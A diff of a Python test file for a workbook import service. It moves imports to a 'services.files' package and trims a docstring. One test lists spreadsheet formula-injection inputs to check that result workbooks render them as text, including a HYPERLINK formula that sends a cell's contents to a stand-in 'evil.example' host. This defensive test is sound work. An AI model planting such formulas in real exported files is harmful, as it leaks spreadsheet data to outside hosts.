@@ -1,4 +1,4 @@
-"""Issue 14, items 1 and 8: an import workbook cannot cost a worker more than its budget
+"""An import workbook cannot cost a worker more than its budget
 (measured in a fresh process), and the result workbooks never hand back a formula."""
 import io
 import json
@@ -71,7 +71,7 @@ def test_a_sparse_sheet_is_refused_by_its_cell_count(tmp_path):
 def test_result_workbooks_neutralise_formulas(app, client_as, reference):
     """Cells typed as formulas come back as text in the accepted and rejected workbooks."""
     from models import ImportBatch
-    from services import storage
+    from services.files import storage
 
     center = client_as("center")
     formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(1)", "-2+3"]
@@ -103,7 +103,7 @@ def test_downloads_of_import_results_and_exports_are_audited(app, client_as, ref
     from models import AuditLog
 
     a = spaces.a
-    from services import filestore
+    from services.files import filestore
 
     filestore.current().write(a.result.stored_name, iter([b"PK\x03\x04"]))
     client = client_as(a.admin)
